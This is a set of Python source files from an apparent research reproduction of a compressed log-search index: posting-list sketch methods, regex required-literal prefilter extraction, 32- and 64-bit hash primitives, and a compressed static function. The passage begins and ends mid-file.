        if old_lid is not None:
            self._decref(old_lid)

    def add_many(self, fps: np.ndarray, posting: int) -> None:
        """Add all fingerprints of one record batch under one posting id."""
        # .tolist() once: plain-int dict keys beat numpy scalar boxing in add()
        for fp in np.unique(np.asarray(fps, dtype=np.uint32)).tolist():
            self.add(fp, posting)

    def set_token_postings(self, fp: int, postings: np.ndarray) -> None:
        """Directly install a token → postings-set mapping (merge path, §4.3)."""
        postings = np.unique(np.asarray(postings, dtype=np.int64))
        v = self.token_map.get(fp)
        if v is None and postings.size == 1:
            self.token_map[fp] = TAG_DIRECT | int(postings[0])
            return
        if v is None:
            self._attach_list(fp, postings, old_lid=None)
            return
        # merge with whatever the token already has
        cur = self.token_postings(fp)
        merged = np.unique(np.concatenate([cur, postings]))
        if merged.size == cur.size:
            return
        old_lid = (v & VAL_MASK) if (v & TAG_PTR) else None
        self._attach_list(fp, merged, old_lid=old_lid)

    # -- queries -----------------------------------------------------------------

    def token_postings(self, fp: int) -> np.ndarray:
        v = self.token_map.get(fp)
        if v is None:
            return np.zeros(0, dtype=np.int64)
        if v & TAG_DIRECT:
            return np.asarray([v & VAL_MASK], dtype=np.int64)
        return self.lists[v & VAL_MASK].postings()

    def list_id_for(self, fp: int) -> tuple[str, int] | None:
        """Unique posting-list identity for Algorithm 3's ``acquireList``."""
        v = self.token_map.get(fp)
        if v is None:
            return None
        if v & TAG_DIRECT:
            return ("direct", v & VAL_MASK)
        return ("list", v & VAL_MASK)

    # -- accounting ----------------------------------------------------------------

    @property
    def n_tokens(self) -> int:
        return len(self.token_map)

    @property
    def n_lists(self) -> int:
        return len(self.lists)

    def estimated_bytes(self) -> int:
        """Memory estimate per the paper's fixed-size-entry accounting."""
        token_map = len(self.token_map) * 8 * 2  # 4B key + 4B value at ~50% load
        lookup = len(self.lookup) * 16 * 2  # 8B key + 8B value at ~50% load
        return token_map + lookup + self._lists_nbytes

    def iter_groups(self) -> Iterator[tuple[np.ndarray, list[int]]]:
        """Yield (postings ndarray, [fps]) per unique list — seal-time input."""
        by_list: dict[int, list[int]] = {}
        by_direct: dict[int, list[int]] = {}
        for fp, v in self.token_map.items():
            if v & TAG_DIRECT:
                by_direct.setdefault(v & VAL_MASK, []).append(fp)
            else:
                by_list.setdefault(v & VAL_MASK, []).append(fp)
        for lid, fps in by_list.items():
            yield self.lists[lid].postings(), fps
        for posting, fps in by_direct.items():
            yield np.asarray([posting], dtype=np.int64), fps
