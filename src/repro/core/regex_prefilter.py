"""Required-literal extraction from regex ASTs — the ``Regex`` → ``Contains``
lowering (docs/query_api.md, "Regex queries").

A regex answered over the gram-posting index needs a *prefilter*: a boolean
combination of literal substrings such that every line the regex matches is
guaranteed to contain the literals — the planner then bounds candidate
batches with ordinary ``Contains`` atoms and the real compiled regex runs
only as the exact post-filter (Zhang & Patel, "Regular Expression Indexing
for Log Analysis").  :func:`analyze` parses the pattern with the stdlib
``sre`` parser and walks the AST bottom-up:

* **concatenation** tracks a finite *over-approximation* of the node's
  language (``exact``) so adjacent factors merge into long literals and a
  branch embedded in a concatenation cross-multiplies into full strings
  (``foo(bar|baz)`` → ``{foobar, foobaz}``), capped by width;
* **alternation** unions branch requirements — every branch must contribute
  a literal or the whole alternation contributes nothing (⊤);
* **repetition** with ``min ≥ 1`` requires its body's literals once (an
  exact single-string body ``s`` requires ``s*min``); ``min == 0`` bodies
  are optional and contribute nothing;
* **classes, wildcards, backrefs** contribute nothing and break literal
  runs; **assertions and anchors** are zero-width (their required literals —
  a lookaround's body appears in the line — still AND in).

The result is a DNF ``((lit, ...), ...)``: the regex can only match a line
containing *all* literals of *some* branch.  ``None`` means no usable
prefilter (degenerate pattern — the planner falls back to a full scan,
surfaced by ``SearchResult.fallback_scan``); the empty DNF ``()`` means no
line can match at all (every branch required a ``"\\n"``, which single log
lines never contain).

**Case seams.**  Extracted literals are lowercased ASCII — ``Contains`` is
case-insensitive, a superset of any case-sensitive regex literal match, and
``str.lower`` is the one canonical fold both the tokenizer and the slab
scanner apply.  Non-ASCII pattern characters always break a literal (Unicode
lowering is context-sensitive: final sigma, U+0130).  Under ``re.IGNORECASE``
without ``re.ASCII`` the characters ``i``/``s`` also break: the ``sre``
fold equivalences let U+0131 (dotless ı) match ``i`` and U+017F (long ſ)
match ``s``, yet neither ``str.lower``\\ s to ASCII, so a required ``i``/``s``
could silently miss such lines (U+212A KELVIN SIGN is safe — it *does*
``str.lower`` to ``k``, on both the index and slab sides).

**Slab safety.**  The vectorized post-filter wants to run one compiled
regex over a whole ``"\\n"``-joined slab instead of per line.  That is
sound only when no construct can match ``"\\n"`` (matches can then never
cross a line boundary, and lookarounds see the separator exactly where a
per-line search sees a string edge) and no anchor binds to the *string*
(``\\A``/``\\Z``; ``^``/``$`` become line anchors once the slab compile adds
``re.MULTILINE``).  :func:`analyze` decides this with a second conservative
walk — anything unrecognized is unsafe and takes the per-line exact path.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from functools import lru_cache
from typing import Any, Iterable

try:  # Python ≥ 3.11 moved the sre internals under re.*
    from re import _constants as _c  # type: ignore[attr-defined]
    from re import _parser as _p  # type: ignore[attr-defined]
except ImportError:  # pragma: no cover — Python ≤ 3.10
    import sre_constants as _c  # type: ignore[no-redef]
    import sre_parse as _p  # type: ignore[no-redef]

#: DNF of required literals: ``None`` = no prefilter (⊤), ``()`` = matches
#: no line (⊥), else "some branch's literals all appear in the line"
DNF = "tuple[tuple[str, ...], ...] | None"

_MAX_BRANCHES = 8  # DNF width cap: beyond this the weaker side is dropped
_MAX_EXACT = 16  # strings tracked per exact cross-product
_MAX_EXACT_CHARS = 512  # total chars across an exact cross-product
_MAX_REPEAT_CHARS = 64  # cap on literal growth from bounded repetition

# 3.11+ opcodes, absent on 3.10 — compared with ``is`` so None never matches
_POSSESSIVE = getattr(_c, "POSSESSIVE_REPEAT", None)
_ATOMIC = getattr(_c, "ATOMIC_GROUP", None)


class _Unsupported(Exception):
    """AST construct the extractor doesn't model — degrade to no prefilter."""


@dataclass(frozen=True)
class RegexInfo:
    """What the planner and the slab scanner need to know about a pattern."""

    pattern: str
    flags: int
    #: required-literal DNF (see module docstring); lowercase ASCII literals
    dnf: "tuple[tuple[str, ...], ...] | None"
    #: True ⇒ the pattern compiled with ``flags | re.MULTILINE`` may scan a
    #: ``"\n"``-joined slab with per-line-identical match decisions
    slab_safe: bool


@lru_cache(maxsize=1024)
def compiled(pattern: str, flags: int = 0) -> "re.Pattern[str]":
    """The exact compiled pattern, cached (shared by oracle + post-filter)."""
    return re.compile(pattern, flags)


@lru_cache(maxsize=1024)
def analyze(pattern: str, flags: int = 0) -> RegexInfo:
    """Parse once; return the literal prefilter + slab-safety verdict."""
    parsed = _p.parse(pattern, flags)
    f = flags | parsed.state.flags  # inline (?imsx...) hoist to global scope
    ic = bool(f & re.IGNORECASE)
    asc = bool(f & re.ASCII)
    try:
        _exact, dnf = _extract_seq(list(parsed), ic, asc)
    except _Unsupported:
        dnf = None
    return RegexInfo(
        pattern,
        flags,
        _finalize(dnf),
        _slab_safe_seq(list(parsed), bool(f & re.DOTALL)),
    )


# -- literal extraction ----------------------------------------------------------------


def _fold_char(code: int, ic: bool, asc: bool) -> "str | None":
    """Lowercased ASCII char for a LITERAL code — or ``None`` when the char
    cannot anchor a required literal (breaks the current run)."""
    if code >= 0x80:
        return None  # non-ASCII: context-sensitive lowering (ς, i̇) — break
    ch = chr(code).lower()  # repro: allow[R4] ASCII-only by the guard above: trivial A–Z fold
    if ic and not asc and ch in "is":
        # sre IGNORECASE equivalences: U+0131 (ı) matches i, U+017F (ſ)
        # matches s, and neither str.lower()s to ASCII — a line carrying one
        # would evade a required "i"/"s" literal.  U+212A (KELVIN) is safe:
        # it folds to "k" under the canonical str.lower on both sides.
        return None
    return ch


def _branch_norm(lits: "tuple[str, ...]") -> "tuple[str, ...]":
    """Dedup; drop literals contained in a longer co-required literal."""
    out: list[str] = []
    for lit in sorted(set(lits), key=lambda s: (-len(s), s)):
        if not any(lit in kept for kept in out):
            out.append(lit)
    return tuple(sorted(out))


def _score(dnf: "tuple[tuple[str, ...], ...]") -> int:
    """Selectivity proxy: the weakest branch's strongest literal length."""
    return min((max((len(l) for l in br), default=0) for br in dnf), default=0)


def _dnf_and(a: DNF, b: DNF) -> DNF:
    if a == () or b == ():
        return ()
    if a is None:
        return b
    if b is None:
        return a
    if len(a) * len(b) > _MAX_BRANCHES:
        # cross product too wide: either side alone is still a sound
        # requirement — keep the more selective one
        return a if _score(a) >= _score(b) else b
    return tuple(_branch_norm(x + y) for x in a for y in b)


def _dnf_or(a: DNF, b: DNF) -> DNF:
    if a is None or b is None:
        return None  # a branch with no requirement makes the union require ⊤
    out = a + b
    return None if len(out) > _MAX_BRANCHES else out


def _dnf_from_exact(strs: "tuple[str, ...]") -> DNF:
    """A node whose language ⊆ ``strs``: any match contains one of them
    whole.  ``""`` in the set means a match may contain nothing (⊤); the
    empty set means the node matches nothing (⊥ — the empty DNF)."""
    if any(s == "" for s in strs):
        return None
    return tuple((s,) for s in strs)


def _extract_seq(
    items: list, ic: bool, asc: bool
) -> "tuple[tuple[str, ...] | None, DNF]":
    """(exact, dnf) for a concatenation.

    ``exact`` is a finite *over-approximation* of the node's language (every
    match is one of the strings, ASCII-lowercased) or ``None`` when no such
    finite set is tracked; ``dnf`` is the required-literal DNF either way.
    Adjacent exact items cross-multiply so literals grow through branches;
    when the product blows a cap the accumulated strings flush into ``dnf``
    as an OR of whole-string requirements and a fresh run starts.
    """
    dnf: DNF = None
    exact: "list[str] | None" = [""]
    alive = True  # no flush yet ⇒ `exact` covers the whole sequence

    def flush() -> None:
        nonlocal dnf, exact, alive
        if exact is not None:
            dnf = _dnf_and(dnf, _dnf_from_exact(tuple(exact)))
        exact = [""]
        alive = False

    for it in items:
        e, d = _extract_item(it, ic, asc)
        if e is not None and exact is not None:
            prod = [a + b for a in exact for b in e]
            if len(prod) <= _MAX_EXACT and sum(map(len, prod)) <= _MAX_EXACT_CHARS:
                exact = prod
                if d is not None and e == ("",):
                    # zero-width assertion riding along: its body's literals
                    # AND in (a full-width item's dnf would only duplicate
                    # what its exact strings already imply)
                    dnf = _dnf_and(dnf, d)
                continue
        flush()
        dnf = _dnf_and(dnf, d)
        if e is not None:
            exact = list(e)  # start a fresh literal run at this item
    if alive and exact is not None:
        ex = tuple(exact)
        return ex, _dnf_and(dnf, _dnf_from_exact(ex))
    flush()
    return None, dnf


def _extract_item(
    it: "tuple[Any, Any]", ic: bool, asc: bool
) -> "tuple[tuple[str, ...] | None, DNF]":
    op, av = it
    if op is _c.LITERAL:
        ch = _fold_char(av, ic, asc)
        return ((ch,), None) if ch is not None else (None, None)
    if op is _c.NOT_LITERAL or op is _c.ANY:
        return None, None
    if op is _c.IN:
        chars = _class_chars(av, ic, asc)
        return (chars, None) if chars is not None else (None, None)
    if op is _c.BRANCH:
        exacts: "list[str] | None" = []
        dnf: DNF = ()  # OR identity: no branches yet
        for alt in av[1]:
            e, d = _extract_seq(list(alt), ic, asc)
            dnf = _dnf_or(dnf, d)
            if exacts is not None and e is not None and len(exacts) + len(e) <= _MAX_EXACT:
                exacts.extend(e)
            else:
                exacts = None
        return (tuple(exacts) if exacts is not None else None), dnf
    if op is _c.SUBPATTERN:
        _group, add_f, del_f, sub = av
        ic2 = (ic or bool(add_f & _c.SRE_FLAG_IGNORECASE)) and not bool(
            del_f & _c.SRE_FLAG_IGNORECASE
        )
        asc2 = asc or bool(add_f & _c.SRE_FLAG_ASCII)
        return _extract_seq(list(sub), ic2, asc2)
    if op is _ATOMIC:
        return _extract_seq(list(av), ic, asc)
    if op is _c.MAX_REPEAT or op is _c.MIN_REPEAT or op is _POSSESSIVE:
        mn, mx, sub = av
        e, d = _extract_seq(list(sub), ic, asc)
        if mn == 0:
            return (("",) if mx == 0 else None), None  # optional: requires ⊤
        if e is not None and len(e) == 1:
            s = e[0]
            if not s:
                return ("",), None
            if mn == mx and len(s) * mn <= _MAX_REPEAT_CHARS:
                return (s * mn,), _dnf_from_exact((s * mn,))
            # min copies are adjacent, so s*min is one required substring
            k = max(1, min(mn, _MAX_REPEAT_CHARS // len(s)))
            return None, ((s * k,),)
        return None, d  # ≥ 1 copy ⇒ the body's own requirements hold
    if op is _c.ASSERT:
        # positive lookaround: zero-width for concatenation, but its body
        # matched inside the same line — the body's literals are required
        _dir, sub = av
        _e, d = _extract_seq(list(sub), ic, asc)
        return ("",), d
    if op is _c.ASSERT_NOT or op is _c.AT:
        return ("",), None  # zero-width, requires nothing
    if op is _c.GROUPREF or op is _c.GROUPREF_EXISTS:
        return None, None  # the referenced group contributes where it appears
    raise _Unsupported(str(op))


def _class_chars(
    items: "Iterable[tuple[Any, Any]]", ic: bool, asc: bool
) -> "tuple[str, ...] | None":
    """A small all-literal class as an exact char set (``[ab]`` → a|b), or
    ``None`` for anything with ranges/categories/negation."""
    out: list[str] = []
    for op, v in items:
        if op is not _c.LITERAL:
            return None
        ch = _fold_char(v, ic, asc)
        if ch is None:
            return None
        out.append(ch)
    if not out or len(out) > 4:
        return None
    return tuple(dict.fromkeys(out))


def _finalize(dnf: DNF) -> DNF:
    """Keep only plannable literals; kill branches that require ``"\\n"``.

    A literal is *usable* when the tokenizer guarantees indexed grams for
    lines containing it (``contains_query_tokens`` non-empty — the same
    predicate the planner applies to ``Contains`` atoms).  A branch left
    with no usable literal requires nothing the index can see, which makes
    the whole DNF ⊤.  A branch requiring a ``"\\n"`` can match no single
    log line and drops; all branches dropping means the regex matches no
    line at all (the empty DNF ⊥).
    """
    if dnf is None:
        return None
    # lazy import mirrors querylang.line_predicate: core must not import
    # logstore at module load (logstore imports core first)
    from ..logstore.tokenizer import contains_query_tokens

    out: list[tuple[str, ...]] = []
    for br in dnf:
        if any("\n" in lit for lit in br):
            continue
        keep = tuple(l for l in _branch_norm(br) if contains_query_tokens(l))
        if not keep:
            return None
        out.append(keep)
    return tuple(out)


# -- slab safety -----------------------------------------------------------------------

#: \n-membership of the sre character categories (categories come out of the
#: parser unresolved; the compile-time unicode/ascii split never changes
#: whether "\n" is in the set)
_CAT_HAS_NL = {
    _c.CATEGORY_DIGIT: False,
    _c.CATEGORY_NOT_DIGIT: True,
    _c.CATEGORY_SPACE: True,
    _c.CATEGORY_NOT_SPACE: False,
    _c.CATEGORY_WORD: False,
    _c.CATEGORY_NOT_WORD: True,
}


def _class_has_nl(items: "Iterable[tuple[Any, Any]]") -> bool:
    """Whether a character class can match ``"\\n"`` (unknown ⇒ True)."""
    neg = False
    pos = False
    for op, v in items:
        if op is _c.NEGATE:
            neg = True
        elif op is _c.LITERAL:
            pos = pos or v == 0x0A
        elif op is _c.RANGE:
            pos = pos or (v[0] <= 0x0A <= v[1])
        elif op is _c.CATEGORY:
            has = _CAT_HAS_NL.get(v)
            if has is None:
                return True
            pos = pos or has
        else:
            return True
    return (not pos) if neg else pos


def _slab_safe_seq(items: list, dotall: bool) -> bool:
    """True when no construct can match ``"\\n"`` or anchor to the string.

    With that, searching the pattern (compiled ``| re.MULTILINE``) over a
    ``"\\n"``-joined slab decides exactly the per-line searches: matches
    can't cross the separators, ``^``/``$`` become the line edges, ``\\b``
    and lookarounds see ``"\\n"`` precisely where a per-line search sees a
    string edge (``"\\n"`` is a non-word char no slab-safe subexpression
    can consume).  Anything unrecognized is conservatively unsafe.
    """
    for op, av in items:
        if op is _c.LITERAL:
            if av == 0x0A:
                return False
        elif op is _c.NOT_LITERAL:
            if av != 0x0A:
                return False
        elif op is _c.ANY:
            if dotall:
                return False
        elif op is _c.IN:
            if _class_has_nl(av):
                return False
        elif op is _c.AT:
            if av not in (
                _c.AT_BEGINNING,
                _c.AT_END,
                _c.AT_BOUNDARY,
                _c.AT_NON_BOUNDARY,
            ):
                return False  # \A, \Z bind to the slab, not the line
        elif op is _c.BRANCH:
            if not all(_slab_safe_seq(list(a), dotall) for a in av[1]):
                return False
        elif op is _c.SUBPATTERN:
            _group, add_f, del_f, sub = av
            if del_f & _c.SRE_FLAG_MULTILINE:
                return False  # (?-m:^) would re-bind to the slab edges
            d2 = (dotall or bool(add_f & _c.SRE_FLAG_DOTALL)) and not bool(
                del_f & _c.SRE_FLAG_DOTALL
            )
            if not _slab_safe_seq(list(sub), d2):
                return False
        elif op is _ATOMIC:
            if not _slab_safe_seq(list(av), dotall):
                return False
        elif op is _c.MAX_REPEAT or op is _c.MIN_REPEAT or op is _POSSESSIVE:
            if not _slab_safe_seq(list(av[2]), dotall):
                return False
        elif op is _c.ASSERT or op is _c.ASSERT_NOT:
            # lookaround bodies CAN peek across the separator — they must be
            # \n-free too, or (?=\n)/(?!\n) diverges at a line edge
            if not _slab_safe_seq(list(av[1]), dotall):
                return False
        elif op is _c.GROUPREF:
            pass  # re-matches group text, already proven \n-free
        elif op is _c.GROUPREF_EXISTS:
            _group, yes, no = av
            if not _slab_safe_seq(list(yes), dotall):
                return False
            if no is not None and not _slab_safe_seq(list(no), dotall):
                return False
        else:
            return False
    return True


__all__ = ["RegexInfo", "analyze", "compiled"]
