"""Hash primitives for the COPR/DynaWarp sketch.

Two regimes:

* Host (numpy, 64-bit): postings hashes (Definition 3.1/3.2 — LCG element hash
  folded with XOR), lookup-map keys, BBHash level hashes during construction.
* Device (JAX / Bass, 32-bit): token fingerprints and probe-side mixing.  JAX
  runs with x64 disabled, and the Trainium vector engine is 32-bit-ALU
  friendly, so everything the query path touches is expressed in uint32.

All functions are deterministic and seed-stable across processes.
"""

from __future__ import annotations

import zlib
from typing import Iterable, Sequence

import numpy as np

# --- constants ---------------------------------------------------------------

# Steele & Vigna (2022), "Computationally easy, spectrally good multipliers".
LCG_MULT = np.uint64(0xD1342543DE82EF95)
LCG_INC = np.uint64(1)  # paper requires non-zero c

_SPLITMIX_GAMMA = np.uint64(0x9E3779B97F4A7C15)

SIG_SEED = np.uint32(0x5F3759DF)
LEVEL_SEED = np.uint64(0xC0FFEE123456789)
POSTING_SEED = 0x9E3779B9  # device-side 32-bit postings-hash element seed

U64 = np.uint64
U32 = np.uint32


# --- 64-bit host hashes -------------------------------------------------------


def lcg64(x: np.ndarray | int) -> np.ndarray | np.uint64:
    """One LCG step: hash_element(p) = a*p + c (mod 2^64).  Definition 3.2."""
    x = np.asarray(x, dtype=np.uint64)
    with np.errstate(over="ignore"):
        return (x * LCG_MULT + LCG_INC).astype(np.uint64)


# scalar twins of :func:`lcg64` in plain Python ints — the mutable sketch
# calls these once per (token, posting) insert, where numpy scalar boxing is
# ~20× the cost of the multiply itself.  Same math mod 2^64, bit-identical.
_LCG_MULT_INT = 0xD1342543DE82EF95
_U64_MASK_INT = (1 << 64) - 1


def postings_hash_single(posting: int) -> int:
    """hash(P1) for a singleton postings set — Definition 3.1."""
    return (posting * _LCG_MULT_INT + 1) & _U64_MASK_INT


def postings_hash_update(h: int, posting: int) -> int:
    """hash(P ∪ {p}) = hash(P) XOR hash_element(p).  Commutative (Def. 3.1)."""
    return h ^ ((posting * _LCG_MULT_INT + 1) & _U64_MASK_INT)


def postings_hash(postings: Iterable[int] | np.ndarray) -> int:
    """Postings hash of an arbitrary iterable of postings."""
    if isinstance(postings, np.ndarray):
        arr = postings.astype(np.uint64)
    else:
        arr = np.fromiter(postings, dtype=np.uint64)
    if arr.size == 0:
        return 0
    return int(np.bitwise_xor.reduce(lcg64(arr)))


def splitmix64(x: np.ndarray | int) -> np.ndarray:
    """SplitMix64 finalizer — used for level seeds and host-side mixing."""
    x = np.asarray(x, dtype=np.uint64)
    with np.errstate(over="ignore"):
        z = (x + _SPLITMIX_GAMMA).astype(np.uint64)
        z = (z ^ (z >> np.uint64(30))) * np.uint64(0xBF58476D1CE4E5B9)
        z = (z ^ (z >> np.uint64(27))) * np.uint64(0x94D049BB133111EB)
        return (z ^ (z >> np.uint64(31))).astype(np.uint64)


# --- 32-bit device-compatible hashes -----------------------------------------


def lowbias32(x: np.ndarray | int) -> np.ndarray:
    """32-bit finalizer (lowbias32) — the probe-side mixing function.

    Mirrored exactly by ``repro.kernels.sketch_probe`` (Bass) and
    ``repro.kernels.ref`` (jnp); keep the three in sync.
    """
    x = np.asarray(x, dtype=np.uint32)
    with np.errstate(over="ignore"):
        x = x ^ (x >> np.uint32(16))
        x = (x * np.uint32(0x7FEB352D)).astype(np.uint32)
        x = x ^ (x >> np.uint32(15))
        x = (x * np.uint32(0x846CA68B)).astype(np.uint32)
        x = x ^ (x >> np.uint32(16))
    return x


# xorshift triples: any composition of x^=x<<a / x^=x>>b steps is a BIJECTION
# on u32, so collisions only arise from the power-of-two mask — and because
# xorshift is linear over GF(2), a seed XOR alone cannot separate a colliding
# pair (xs(a^s)^xs(b^s) = xs(a^b)).  DIFFERENT triples are different linear
# maps, which is what actually re-rolls the collision dice per level.
XS_TRIPLES = (
    (13, 17, 5), (5, 13, 6), (10, 9, 25), (7, 21, 12),
    (3, 25, 17), (9, 11, 19), (11, 7, 13), (6, 23, 8),
    (15, 5, 21), (4, 19, 9), (8, 15, 11), (14, 3, 23),
)


def xorshift32(x: np.ndarray | int, seed: int = 0, variant: int = 0) -> np.ndarray:
    """Variant-parameterized xor/shift mixer — the DEVICE-side hash.

    The Trainium vector ALU is bitwise/shift-exact on uint32 but routes
    add/mult through fp32 (24-bit mantissa), so multiplicative mixers like
    lowbias32 are NOT device-exact.  This mixer uses only xor+shift and is
    mirrored bit-for-bit by ``kernels/sketch_probe`` — keep the two in sync.
    """
    x = np.asarray(x, dtype=np.uint32) ^ np.uint32(seed)
    a1, b1, c1 = XS_TRIPLES[(2 * variant) % len(XS_TRIPLES)]
    a2, b2, c2 = XS_TRIPLES[(2 * variant + 1) % len(XS_TRIPLES)]
    with np.errstate(over="ignore"):
        x = x ^ (x << np.uint32(a1))
        x = x ^ (x >> np.uint32(b1))
        x = x ^ (x << np.uint32(c1))
        x = x ^ (x >> np.uint32(a2))
        x = x ^ (x << np.uint32(b2))
        x = x ^ (x >> np.uint32(c2))
    return x


def level_hash32(fp: np.ndarray, level: int) -> np.ndarray:
    """Per-level BBHash hash of 32-bit fingerprints → uint32 (device-exact)."""
    seed = np.uint32(int(splitmix64(LEVEL_SEED + np.uint64(level))) & 0xFFFFFFFF)
    return xorshift32(np.asarray(fp, dtype=np.uint32), int(seed), variant=level)


def nonlinear_mix32(x: np.ndarray) -> np.ndarray:
    """Non-linear device-exact mixer: a ^ (b & c) of three xorshift images.

    xorshift alone is GF(2)-LINEAR, so a linear signature would align with
    the level-hash collision subspaces (measured: 5.5e-2 false-positive rate
    instead of 2^-16).  The AND gate breaks linearity using only the
    device-exact op set (xor/and/shift).
    """
    x = np.asarray(x, dtype=np.uint32)
    a = xorshift32(x, 0xA5A5A5A5, variant=3)
    b = xorshift32(x, 0x3C6EF372, variant=4)
    c = xorshift32(x, 0x9E3779B9, variant=5)
    return a ^ (b & c)


def signature32(fp: np.ndarray, bits: int) -> np.ndarray:
    """Signature of a fingerprint, ``bits`` wide (paper §3.3, device-exact)."""
    h = nonlinear_mix32(np.asarray(fp, dtype=np.uint32) ^ SIG_SEED)
    if bits >= 32:
        return h
    return h & np.uint32((1 << bits) - 1)


# --- token fingerprinting ------------------------------------------------------


def fingerprint32(token: bytes | str) -> int:
    """4-byte token fingerprint (paper §4.1).

    crc32 (C-speed, deterministic) mixed through lowbias32 so the low bits are
    uniform.  Collisions union posting lists, exactly as the paper allows.
    """
    if isinstance(token, str):
        token = token.encode("utf-8", "surrogatepass")
    return int(lowbias32(np.uint32(zlib.crc32(token) & 0xFFFFFFFF)))


def fingerprint_tokens(tokens: Sequence[str | bytes] | np.ndarray) -> np.ndarray:
    """Vectorized-ish fingerprinting of an iterable of tokens → uint32 array."""
    crc = zlib.crc32
    raw = np.fromiter(
        (
            crc(t.encode("utf-8", "surrogatepass") if isinstance(t, str) else t)
            & 0xFFFFFFFF
            for t in tokens
        ),
        dtype=np.uint32,
    )
    return lowbias32(raw)


def _crc32_table() -> np.ndarray:
    """The reflected CRC-32 byte table (poly 0xEDB88320) — zlib's CRC."""
    t = np.arange(256, dtype=np.uint32)
    for _ in range(8):
        t = np.where(t & 1, (t >> 1) ^ np.uint32(0xEDB88320), t >> 1)
    return t.astype(np.uint32)


_CRC32_TABLE = _crc32_table()


def crc32_spans(slab: np.ndarray, starts: np.ndarray, lengths: np.ndarray) -> np.ndarray:
    """CRC-32 of many byte spans of ``slab`` at once → uint32 array.

    Bit-identical to ``zlib.crc32`` on each span.  Spans are processed
    column-by-column (byte j of every span in one vectorized table-lookup
    step); sorting by length descending first keeps the active set a prefix,
    so total work is O(sum of span lengths), independent of the longest span.
    """
    starts = np.asarray(starts, dtype=np.int64)
    lengths = np.asarray(lengths, dtype=np.int64)
    n = starts.size
    if n == 0:
        return np.empty(0, dtype=np.uint32)
    order = np.argsort(-lengths, kind="stable")
    st = starts[order]
    ln = lengths[order]
    crc = np.full(n, 0xFFFFFFFF, dtype=np.uint32)
    max_len = int(ln[0])
    neg_ln = -ln  # ascending, for the prefix search
    for j in range(max_len):
        k = int(np.searchsorted(neg_ln, -(j + 1), side="right"))  # spans with ln > j
        if k == 0:
            break
        b = slab[st[:k] + j].astype(np.uint32)
        crc[:k] = (crc[:k] >> np.uint32(8)) ^ _CRC32_TABLE[(crc[:k] ^ b) & np.uint32(0xFF)]
    crc ^= np.uint32(0xFFFFFFFF)
    out = np.empty(n, dtype=np.uint32)
    out[order] = crc
    return out


def fingerprint_spans(
    slab: np.ndarray, starts: np.ndarray, lengths: np.ndarray
) -> np.ndarray:
    """``fingerprint32`` of many byte spans at once — the batched-ingest
    fingerprint primitive (crc32 of each span mixed through lowbias32)."""
    return lowbias32(crc32_spans(slab, starts, lengths))


def popcount64(words: np.ndarray) -> np.ndarray:
    """Per-word popcount for uint64 arrays."""
    return np.bitwise_count(words)


def postings_hash32(h: np.ndarray, p: np.ndarray) -> np.ndarray:
    """Device-variant (32-bit) commutative postings-hash fold.

    Reference semantics for ``kernels/posting_hash``: commutative because
    XOR is; element hash is the device mixer.
    """
    h = np.asarray(h, dtype=np.uint32)
    return h ^ xorshift32(np.asarray(p, dtype=np.uint32), POSTING_SEED, variant=0)
