"""Compressed static function: minimal-hash index → posting-list rank.

Paper §3.3: posting lists are ranked by descending number of referencing
tokens; the rank of token ``i``'s list is written with
``floor(log2(max(rank, 1))) + 1`` bits.  The code is *not* uniquely decodable
on its own — a sampled prefix-sum array stores per-entry bit lengths and an
absolute offset every ``SAMPLE`` entries, which both locates and delimits each
codeword (and gives O(1) access).
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from .bitio import pack_varwidth, read_fields

SAMPLE = 64  # absolute bit-offset sample interval (entries)


def _bit_length(r: np.ndarray) -> np.ndarray:
    """floor(log2(max(r,1))) + 1 == bit length, vectorized (r >= 1)."""
    r = np.asarray(r, dtype=np.uint64)
    out = np.zeros(r.shape, dtype=np.uint8)
    v = r.copy()
    while (v > 0).any():
        out[v > 0] += 1
        v >>= np.uint64(1)
    return out


@dataclass
class Csf:
    n: int
    lengths: np.ndarray  # u8 [n] — bits per entry
    samples: np.ndarray  # u64 [ceil(n/SAMPLE)] — absolute bit offset of entry k*SAMPLE
    words: np.ndarray  # u64 bit sequence (LSB-first fields)

    def get_batch(self, idx: np.ndarray) -> np.ndarray:
        """Decode ranks for token indices ``idx`` (vectorized)."""
        idx = np.asarray(idx, dtype=np.int64)
        if idx.size == 0:
            return np.zeros(0, dtype=np.int64)
        block = idx // SAMPLE
        base = self.samples[block].astype(np.int64)
        start = block * SAMPLE
        # gather the lengths of up to SAMPLE predecessors in the block
        offs = np.arange(SAMPLE, dtype=np.int64)
        gidx = np.minimum(start[:, None] + offs[None, :], self.n - 1)
        lens = self.lengths[gidx].astype(np.int64)
        within = (start[:, None] + offs[None, :]) < idx[:, None]
        rel = (lens * within).sum(axis=1)
        offsets = base + rel
        nbits = self.lengths[idx]
        vals = read_fields(self.words, offsets, nbits)
        return vals.astype(np.int64)

    def nbytes(self) -> int:
        return self.lengths.nbytes + self.samples.nbytes + self.words.nbytes


def build_csf(values: np.ndarray) -> Csf:
    """values[i] = posting-list rank of token index i."""
    values = np.asarray(values, dtype=np.uint64)
    n = int(values.size)
    lengths = _bit_length(np.maximum(values, 1))
    words, offsets = pack_varwidth(values, lengths.astype(np.int64))
    samples = offsets[::SAMPLE].astype(np.uint64)
    return Csf(n=n, lengths=lengths, samples=samples, words=words)
