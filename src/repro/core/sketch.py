"""Top-level COPR/DynaWarp sketch API with internal segmentation (§4.3).

``CoprSketch`` accumulates (token, posting) pairs into a mutable sketch.  When
the estimated memory use crosses ``memory_limit_bytes``, the mutable part is
flushed to a *temporary* immutable sketch (full fingerprints instead of
signature bits) and construction restarts empty.  ``seal()`` merges all
temporary segments plus the live mutable sketch back into one mutable sketch
(identical contents to never having segmented) and emits the final immutable
buffer.

``DynaWarpSketch`` is an alias — see DESIGN.md §0 for the COPR/DynaWarp
naming note.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Sequence

import numpy as np

from .hashing import fingerprint_tokens
from .immutable_sketch import ImmutableSketch, seal as seal_mutable
from .mutable_sketch import MutableSketch
from .query import query_or


@dataclass
class SketchConfig:
    max_postings: int = 4096
    short_threshold: int = 16
    sig_bits: int = 16
    memory_limit_bytes: int = 32 * 1024 * 1024  # the paper's 32 MB experiments


class CoprSketch:
    """Mutable multi-set membership sketch with memory-bounded construction."""

    def __init__(self, config: SketchConfig | None = None) -> None:
        self.config = config or SketchConfig()
        self.mutable = self._new_mutable()
        self.temp_segments: list[ImmutableSketch] = []
        self._mem_check_interval = 4096
        self._ops_since_check = 0

    def _new_mutable(self) -> MutableSketch:
        return MutableSketch(
            max_postings=self.config.max_postings,
